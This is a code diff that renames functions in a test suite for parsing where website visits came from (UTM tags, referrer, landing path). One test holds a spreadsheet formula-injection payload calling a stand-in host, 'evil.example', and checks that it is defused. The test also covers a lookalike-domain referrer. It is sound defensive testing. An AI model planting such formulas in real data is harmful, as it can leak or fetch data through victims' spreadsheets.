@@ -1,12 +1,12 @@
 import { describe, expect, it } from 'vitest'
-import { attributionOf, readAttribution } from '@/lib/leads/shared/attribution'
+import { getAttribution, parseAttribution } from '@/lib/leads/shared/attribution'
 
 describe('where a visit came from', () => {
   it('is read off its first address and the page before', () => {
     const address = new URL(
       'https://px.example/book-demo?utm_source=flyer&gclid=g1&name=Ana&services=chat-agent',
     )
-    expect(attributionOf(address, 'https://search.example/q')).toEqual({
+    expect(getAttribution(address, 'https://search.example/q')).toEqual({
       utm_source: 'flyer',
       gclid: 'g1',
       referrer: 'https://search.example/q',
@@ -16,11 +16,11 @@ describe('where a visit came from', () => {
 
   it('is read off the page before where the visit went on before its first page could note it', () => {
     const address = new URL('https://px.example/book-demo')
-    expect(attributionOf(address, 'https://px.example/?utm_source=flyer')).toEqual({
+    expect(getAttribution(address, 'https://px.example/?utm_source=flyer')).toEqual({
       utm_source: 'flyer',
       landing_path: '/',
     })
-    expect(attributionOf(address, 'https://px.example.evil/?utm_source=no')).toEqual({
+    expect(getAttribution(address, 'https://px.example.evil/?utm_source=no')).toEqual({
       referrer: 'https://px.example.evil/?utm_source=no',
       landing_path: '/book-demo',
     })
@@ -33,7 +33,7 @@ describe('where a visit came from', () => {
       referrer: 'https://search.example/?q=<b>',
       landing_path: `/${'a'.repeat(299)}😀`.slice(0, -1),
     }
-    expect(readAttribution(JSON.stringify(sent))).toEqual({
+    expect(parseAttribution(JSON.stringify(sent))).toEqual({
       utm_source: 'flyer',
       utm_term: `'=IMPORTDATA("http://evil.example")`,
       referrer: 'https://search.example/?q=b',
@@ -49,12 +49,12 @@ describe('where a visit came from', () => {
       referrer: 7,
       landing_path: '/',
     }
-    expect(readAttribution(JSON.stringify(sent))).toEqual({
+    expect(parseAttribution(JSON.stringify(sent))).toEqual({
       utm_source: 'x'.repeat(300),
       fbclid: 'f',
       landing_path: '/',
     })
     for (const none of [undefined, null, 7, '', 'x', 'null', '[]', '{"a":"b"}'])
-      expect(readAttribution(none)).toBeUndefined()
+      expect(parseAttribution(none)).toBeUndefined()
   })
 })
